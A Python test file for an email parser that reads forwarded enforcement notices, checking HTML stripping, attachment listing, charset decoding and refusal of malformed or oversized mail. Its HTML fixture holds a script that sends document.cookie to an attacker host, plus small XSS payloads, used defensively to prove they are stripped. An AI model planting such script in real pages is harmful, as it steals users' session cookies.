"""Requirements for reading a forwarded notice's form: HTML converted to text and never passed on,
attachments listed and never opened, encodings decoded, and messages too large, too deep, malformed
or random refused, never crashing the reader."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from chalicelib.domain.inbound_mail import (
    MAX_DEPTH,
    MAX_MESSAGE_BYTES,
    MAX_PARTS,
    Extraction,
    MalformedMessage,
    MessageTooLarge,
    html_to_text,
    needs_triage,
    parse_message,
)
from tests.unit.mail_builders import CORPUS, RECEIVED_AT, REGISTRY, message, parse

# --- HTML and attachments ------------------------------------------------------------------------

_HTML = """<html><head><title>ICE notice</title><style>body { color: red }</style></head>
<body><script>document.location = "https://attacker.example/" + document.cookie</script>
<p>Secure Communities will be activated <b>statewide</b> on Wednesday&nbsp;&ndash; r&eacute;sum&eacute;
&lt;b&gt;not a tag&lt;/b&gt;.</p>
<p><a href="javascript:alert(1)">details</a> <img src="x" onerror="alert(2)"></p>
</body></html>"""


def test_html_is_converted_to_text_and_never_passed_on() -> None:
    raw = message(
        '--alt\r\nContent-Type: text/plain; charset="utf-8"\r\n\r\n\r\n'
        f'--alt\r\nContent-Type: text/html; charset="utf-8"\r\n\r\n{_HTML}\r\n--alt--\r\n',
        content_type='multipart/alternative; boundary="alt"',
    )
    x = parse(raw)
    assert "Secure Communities will be activated statewide on Wednesday – résumé" in x.text
    assert "<b>not a tag</b>" in x.text  # the sender's escaped text, decoded: plain text, never markup
    for markup in (
        "<p>",
        "<a ",
        "<img",
        "<script",
        "javascript:",
        "onerror",
        "document.cookie",
        "color: red",
    ):
        assert markup not in x.text
    assert "ICE notice" not in x.text
    assert x.program.value == "secure-communities"
    assert x.jurisdictions.value == ("us-ct",)
    assert all("<script" not in f.source for f in (x.program, x.effective_at, x.jurisdictions))


def test_a_plain_text_part_that_is_really_an_html_document_is_converted_too() -> None:
    x = parse(
        message(
            "<!DOCTYPE html><html><body><p>Secure Communities goes statewide on Wednesday.</p></body></html>"
        )
    )
    assert x.text == "Secure Communities goes statewide on Wednesday."


def test_html_to_text_survives_unclosed_head_and_broken_markup() -> None:
    assert html_to_text("<html><head><title>t</title><body><p>Hello &amp; goodbye<p>Next") == (
        "Hello & goodbye\n\nNext"
    )
    broken = html_to_text("<div><<<>>>&#xZZ;<p class='x")
    assert broken.startswith("<<<>>>&#xZZ;")
    assert "<div" not in broken


def test_attachments_are_listed_never_opened() -> None:
    parts = [
        ('text/plain; charset="utf-8"', None, "Please see the attached notice."),
        (
            "text/plain",
            'attachment; filename="notice.txt"',
            "Secure Communities will be activated statewide on Wednesday.",
        ),
        ("text/html", 'attachment; filename="notice.html"', "<script>alert(1)</script>"),
        (
            'application/x-msdownload; name="setup.exe"',
            'attachment; filename="setup.exe"',
            "TVqQAAMAAAAEAAAA",
        ),
        ("image/png", "inline", "iVBORw0KGgo="),
        ("text/calendar", None, "BEGIN:VCALENDAR"),
    ]
    body = "".join(
        f"--mix\r\nContent-Type: {ctype}\r\n"
        + (f"Content-Disposition: {disposition}\r\n" if disposition else "")
        + f"\r\n{content}\r\n"
        for ctype, disposition, content in parts
    )
    x = parse(message(body + "--mix--\r\n", content_type='multipart/mixed; boundary="mix"'))
    assert x.attachments == (
        "notice.txt (text/plain)",
        "notice.html (text/html)",
        "setup.exe (application/x-msdownload)",
        "(no filename) (image/png)",
        "(no filename) (text/calendar)",
    )
    assert x.text == "Please see the attached notice."
    assert x.program.value is None  # the attachment said it, but attachments are never read
    assert needs_triage(x)


def test_a_base64_attachment_with_a_hostile_filename_is_listed_as_plain_text() -> None:
    body = (
        "--mix\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n"
        "--mix\r\nContent-Type: application/pdf\r\n"
        'Content-Disposition: attachment; filename="a\tb<script>.pdf"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\nJVBERi0=\r\n--mix--\r\n"
    )
    x = parse(message(body, content_type='multipart/mixed; boundary="mix"'))
    assert x.attachments == ("a b<script>.pdf (application/pdf)",)


# --- encodings -----------------------------------------------------------------------------------


def test_an_unknown_charset_is_read_with_undecodable_bytes_replaced() -> None:
    raw = message("", content_type='text/plain; charset="x-no-such-charset"') + (
        b"Secure Communities will be activated statewide on Wednesday \xff\xfe."
    )
    x = parse(raw)
    assert "Wednesday \ufffd\ufffd." in x.text
    assert x.program.value == "secure-communities"
    assert any("unknown charset 'x-no-such-charset'" in p for p in x.problems)


def test_latin1_labelled_mail_with_windows_smart_quotes_reads_as_intended() -> None:
    raw = message("", content_type='text/plain; charset="iso-8859-1"') + (
        b"\x93Secure Communities\x94 will be activated statewide on Wednesday \x96 caf\xe9."
    )
    assert "“Secure Communities” will be activated statewide on Wednesday – café." in parse(raw).text


def test_encoded_headers_are_decoded() -> None:
    raw = message(
        "Secure Communities will be activated statewide on Wednesday.",
        subject="=?utf-8?b?4oCcU2VjdXJlIENvbW11bml0aWVz4oCdIOKAlCBhdmlz?=",
        sender="=?iso-8859-1?q?Unit=E9_de_liaison?= <Liaison.Unit@Example.gov>",
    )
    x = parse(raw)
    assert x.subject.value == "“Secure Communities” — avis"
    assert x.original_sender.value == "liaison.unit@example.gov"


# --- safety --------------------------------------------------------------------------------------


def test_an_oversized_message_is_refused_before_it_is_parsed() -> None:
    raw = message("Secure Communities will be activated statewide on Wednesday.\n")
    raw += b"x" * (MAX_MESSAGE_BYTES - len(raw) + 1)
    with pytest.raises(MessageTooLarge) as refused:
        parse(raw)
    assert isinstance(refused.value, MalformedMessage)
    assert str(MAX_MESSAGE_BYTES) in refused.value.reason


def test_a_message_with_too_many_parts_is_refused() -> None:
    parts = "".join(f"--p\r\nContent-Type: text/plain\r\n\r\npart {i}\r\n" for i in range(MAX_PARTS + 1))
    with pytest.raises(MalformedMessage, match="MIME parts"):
        parse(message(parts + "--p--\r\n", content_type='multipart/mixed; boundary="p"'))


def test_parts_nested_too_deep_are_refused() -> None:
    entity = (
        "Content-Type: text/plain\r\n\r\nSecure Communities will be activated statewide on Wednesday.\r\n"
    )
    for level in range(MAX_DEPTH + 1):
        entity = (
            f'Content-Type: multipart/mixed; boundary="n{level}"\r\n\r\n'
            f"--n{level}\r\n{entity}\r\n--n{level}--\r\n"
        )
    with pytest.raises(MalformedMessage, match="nested"):
        parse(b"From: ero.hartford@example.gov\r\n" + entity.encode())


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (b"", "empty"),
        (b" \r\n\r\n", "empty"),
        (b"just some words\nand more", "not an email"),
        (b"Subject: a note\n\nSecure Communities statewide on Wednesday", "no From header"),
        (b"From: a@example.gov\nContent-Type: multipart/mixed\n\nbody", "declares no boundary"),
        (
            b"From: a@example.gov\nContent-Type: multipart/mixed; boundary=zz\n\nno parts here",
            "boundary never appears",
        ),
    ],
)
def test_a_malformed_message_is_refused_with_a_clear_reason(raw: bytes, reason: str) -> None:
    with pytest.raises(MalformedMessage) as refused:
        parse(raw)
    assert reason in refused.value.reason


def test_something_other_than_bytes_is_refused() -> None:
    with pytest.raises(MalformedMessage, match="bytes"):
        parse_message("From: a@example.gov\n\nhi", registry=REGISTRY, received_at=RECEIVED_AT)  # type: ignore[arg-type]


# Deterministic and without a database, like the other fuzz tests: the same examples on every run.
FUZZ = settings(deadline=None, derandomize=True, database=None, suppress_health_check=[HealthCheck.too_slow])


def _parses_or_refuses(raw: bytes) -> None:
    try:
        x = parse(raw)
    except MalformedMessage as refused:
        reason = refused.reason
    else:
        assert isinstance(x, Extraction)
        assert isinstance(needs_triage(x), bool)
        return
    assert reason


@settings(FUZZ, max_examples=150)
@given(st.binary(max_size=4096))
def test_random_bytes_only_ever_raise_malformed_message(raw: bytes) -> None:
    _parses_or_refuses(raw)


_HEADERS = b"From: ero.hartford@example.gov\r\nDate: Fri, 17 Feb 2012 16:05:00 -0500\r\n"


@settings(FUZZ, max_examples=150)
@given(
    st.sampled_from([b"", b"Content-Type: multipart/mixed; boundary=b\r\n", b"Content-Type: text/html\r\n"]),
    st.binary(max_size=4096),
)
def test_random_bytes_after_real_headers_only_ever_raise_malformed_message(extra: bytes, body: bytes) -> None:
    _parses_or_refuses(_HEADERS + extra + b"\r\n" + body)


@settings(FUZZ, max_examples=120)
@given(
    st.sampled_from(sorted(CORPUS.glob("*.eml"))),
    st.floats(min_value=0, max_value=1),
    st.integers(min_value=0, max_value=200),
    st.binary(max_size=200),
)
def test_corrupted_corpus_messages_only_ever_raise_malformed_message(
    path: Path, where: float, cut: int, splice: bytes
) -> None:
    raw = path.read_bytes()
    at = int(where * len(raw))
    _parses_or_refuses(raw[:at] + splice + raw[at + cut :])
